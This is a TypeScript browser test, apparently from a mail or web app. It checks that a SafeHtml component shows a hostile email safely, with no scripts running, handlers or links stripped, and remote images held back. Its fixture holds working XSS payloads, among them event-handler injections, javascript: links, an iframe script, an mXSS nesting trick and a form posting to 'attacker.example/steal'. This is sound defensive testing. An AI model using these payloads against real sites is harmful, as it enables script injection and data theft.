import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { build } from 'esbuild';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchChromium } from './chromium';

let browser: Browser;
let server: Server;
let origin: string;
let trackerHits = 0;

const hostile = (tracker: string) => `
  <p id="greeting">Hello <b>Ada</b>, thanks for your note.</p>
  <script>window.pwned = 'script'</script>
  <img id="broken" src="x" onerror="window.pwned = 'onerror'">
  <a id="js-link" href="javascript:window.pwned = 'javascript-link'">see the offer</a>
  <a id="web-link" href="https://example.com/offer">our site</a>
  <svg onload="window.pwned = 'svg'"><circle r="4"/></svg>
  <iframe srcdoc="<script>parent.pwned = 'iframe'</script>"></iframe>
  <form action="https://attacker.example/steal"><input name="q"><button id="submit">Send</button></form>
  <details open ontoggle="window.pwned = 'ontoggle'"><summary>more</summary>text</details>
  <div id="styled" style="background: url(${tracker}?css)">styled</div>
  <style>body { display: none }</style>
  <img id="pixel" src="${tracker}" width="1" height="1">
  <math><mtext><table><mglyph><style><img src=x onerror="window.pwned = 'mxss'"></style></mglyph></table></mtext></math>
`;

beforeAll(async () => {
  const bundle = await build({
    entryPoints: [join(import.meta.dirname, 'fixtures/safe-html-page.tsx')],
    bundle: true,
    write: false,
    format: 'iife',
    jsx: 'automatic',
    define: { 'process.env.NODE_ENV': '"production"' },
    logLevel: 'silent',
  });
  const script = bundle.outputFiles[0]?.text ?? '';
  server = createServer((req, res) => {
    if (req.url?.startsWith('/pixel.png')) {
      trackerHits++;
      res.writeHead(200, { 'content-type': 'image/png' }).end();
    } else if (req.url === '/app.js') {
      res.writeHead(200, { 'content-type': 'text/javascript' }).end(script);
    } else {
      const tracker = `http://localhost:${(server.address() as AddressInfo).port}/pixel.png`;
      res
        .writeHead(200, { 'content-type': 'text/html; charset=utf-8' })
        .end(`<!doctype html><div id="root"></div><script>window.hostileHtml = ${JSON.stringify(hostile(tracker)).replace(/</g, '\\u003c')}</script><script src="/app.js"></script>`);
    }
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  browser = await launchChromium();
});
afterAll(async () => {
  await browser?.close();
  await new Promise((resolve) => server?.close(resolve));
});

describe('SafeHtml shows a hostile email without running anything', () => {
  it('drops scripts, handlers, javascript: links, frames and forms; holds remote images until "Show images"; links open safely', async () => {
    const page = await browser.newPage();
    const dialogs: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    const popups: string[] = [];
    page.context().on('page', (p) => popups.push(p.url()));
    await page.goto(origin);
    await page.getByText('Hello').waitFor();
    const body = page.getByLabel('Message');

    expect(await body.locator('b').textContent()).toBe('Ada');
    expect(await body.locator('script, iframe, form, input, button, svg, style, math').count()).toBe(0);
    expect(await page.locator('[onerror], [onload], [ontoggle]').count()).toBe(0);
    expect(await body.locator('#styled').getAttribute('style')).toBeNull();
    expect(await body.locator('#js-link').getAttribute('href')).toBeNull();
    const web = body.locator('#web-link');
    expect(await web.getAttribute('target')).toBe('_blank');
    expect(await web.getAttribute('rel')).toBe('noopener noreferrer nofollow');

    // Clicking what was a javascript: link runs nothing either.
    await body.locator('#js-link').click();
    expect(await page.evaluate(() => (window as unknown as { pwned?: string }).pwned)).toBeUndefined();
    expect(trackerHits).toBe(0);
    expect(await body.locator('#pixel').getAttribute('src')).toBeNull();

    await page.getByRole('button', { name: 'Show images' }).click();
    await page.waitForFunction(() => (document.getElementById('pixel') as HTMLImageElement | null)?.complete === true && document.getElementById('pixel')?.getAttribute('src') !== null);
    expect(trackerHits).toBe(1);
    expect(await page.evaluate(() => (window as unknown as { pwned?: string }).pwned)).toBeUndefined();
    expect(dialogs).toEqual([]);
    expect(popups).toEqual([]);
    await page.close();
  });
});
